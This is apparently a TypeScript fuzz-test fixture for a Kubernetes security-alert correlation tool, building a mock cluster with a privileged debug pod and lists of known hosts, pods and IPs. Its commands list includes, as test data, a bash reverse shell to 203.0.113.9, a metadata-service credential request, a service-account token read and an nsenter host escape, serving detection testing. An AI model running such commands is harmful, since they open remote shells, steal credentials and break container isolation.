/**
 * A small cluster for the fuzz suites: fuzzed alerts draw host names, container ids, pod names and IPs from it, so
 * correlation and the rules run on matched alerts too, not only on alerts that match nothing.
 */
import { buildIndex } from '../../src/cluster/index.js';
import type { ClusterIndex, ClusterSnapshot, KubeObject } from '../../src/cluster/model.js';
import { containerIdOf, node, owner, pod, snapshot } from '../support/cluster.js';

export const NODE_A = 'ip-10-0-1-10.eu-west-1.compute.internal';
export const NODE_B = 'ip-10-0-2-20.eu-west-1.compute.internal';

const calico = pod('calico-node-abcde', {
  namespace: 'calico-system',
  node: NODE_A,
  hostNetwork: true,
  owner: { kind: 'DaemonSet', name: 'calico-node' },
  containers: [{ name: 'calico-node', image: 'quay.io/calico/node:v3.28.1', securityContext: { privileged: true } }],
});
const web = pod('web-5d8f7c9b4-x2x2x', {
  namespace: 'shop',
  node: NODE_B,
  ip: '10.0.2.55',
  owner: { kind: 'ReplicaSet', name: 'web-5d8f7c9b4' },
  containers: [{ name: 'web', image: 'nginx:1.27', command: ['nginx', '-g', 'daemon off;'] }],
  statuses: [{ restartCount: 7, lastState: { terminated: { exitCode: 137, reason: 'Error', finishedAt: '2026-01-01T11:59:00Z' } } }],
});
const debug = pod('debug', {
  namespace: 'ops',
  node: NODE_A,
  ip: '10.0.1.77',
  hostPID: true,
  containers: [{ name: 'tools', image: 'ubuntu:22.04', securityContext: { privileged: true, runAsUser: 0 } }],
});

const objects: KubeObject[] = [
  node(NODE_A, '10.0.1.10', 'i-0aaaaaaaaaaaaaaa1'),
  node(NODE_B, '10.0.2.20', 'i-0bbbbbbbbbbbbbbb2'),
  owner('DaemonSet', 'calico-node', 'calico-system'),
  owner('Deployment', 'web', 'shop'),
  owner('ReplicaSet', 'web-5d8f7c9b4', 'shop', { kind: 'Deployment', name: 'web' }),
  calico,
  web,
  debug,
];

export function fuzzSnapshot(): ClusterSnapshot {
  const s = snapshot(objects, [
    { kind: 'exec', user: 'alice@example.com', groups: ['system:authenticated'], sourceIps: ['203.0.113.9'], namespace: 'ops', pod: 'debug', container: 'tools', command: ['bash'], tty: true, start: '2026-01-01T11:55:00Z', end: '2026-01-01T12:10:00Z' },
  ]);
  s.gaps = [{ resource: 'events', reason: 'forbidden (403)' }];
  return s;
}

export const fuzzIndex: ClusterIndex = buildIndex([fuzzSnapshot()]);

/** Values an alert can carry that the cluster knows, mixed with values it does not. */
export const KNOWN = {
  hosts: [NODE_A, NODE_B, 'ip-10-0-1-10', '10.0.1.10', 'i-0bbbbbbbbbbbbbbb2', 'unknown-host'],
  containerIds: [containerIdOf(calico), containerIdOf(web), containerIdOf(debug).slice(0, 12), `containerd://${containerIdOf(web)}`, 'host', 'deadbeefdead'],
  pods: ['web-5d8f7c9b4-x2x2x', 'calico-node-abcde', 'debug', 'nope'],
  namespaces: ['shop', 'calico-system', 'ops', 'default'],
  ips: ['10.0.2.55', '10.0.1.77', '10.0.1.10', '203.0.113.9', '::1', '999.1.1.1'],
  processes: ['iptables-restore', 'calico-node', 'nginx', 'bash', 'xmrig', 'curl', 'nsenter', 'kubectl'],
  commands: ['iptables-restore --noflush', 'nginx -g daemon off;', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'curl http://169.254.169.254/latest/meta-data/iam/', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'nsenter -t 1 -m -u -i -n sh'],
};
